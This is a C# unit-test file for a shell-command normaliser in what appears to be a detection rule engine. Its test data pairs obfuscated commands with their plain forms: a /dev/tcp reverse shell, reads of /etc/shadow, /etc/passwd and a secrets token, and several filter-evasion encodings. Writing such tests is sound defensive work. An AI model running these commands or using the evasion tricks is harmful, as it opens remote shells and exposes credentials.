using Crowsnest.Core.Rules;

namespace Crowsnest.Core.Tests.Rules;

public sealed class ShellTextTests
{
    [Theory]
    [InlineData("b''ash -i >& /dev/''tcp/203.0.113.9/443", "bash -i >& /dev/tcp/203.0.113.9/443")]
    [InlineData("c\\at \"/etc/sh\"adow", "cat /etc/shadow")]
    [InlineData("b$@ash${IFS}-i", "bash -i")]
    [InlineData("cat /var/run/./secrets//x/../token", "cat /var/run/secrets/token")]
    [InlineData("{cat,/etc/passwd}", "cat /etc/passwd")]
    [InlineData("$'\\x63at' $'/etc/\\163hadow'", "cat /etc/shadow")]
    [InlineData("cat /etc/[s]hadow", "cat /etc/shadow")]
    [InlineData("curl  https://example.net//x", "curl https://example.net//x")]
    [InlineData("[ -f x ] && ls $", "[ -f x ] && ls $")]
    [InlineData("$'", "")]
    [InlineData("\\", "\\")]
    public void Plain_CommandLine_ReadsAsAShellDoes(string line, string expected) => Assert.Equal(expected, ShellText.Plain(line));
}
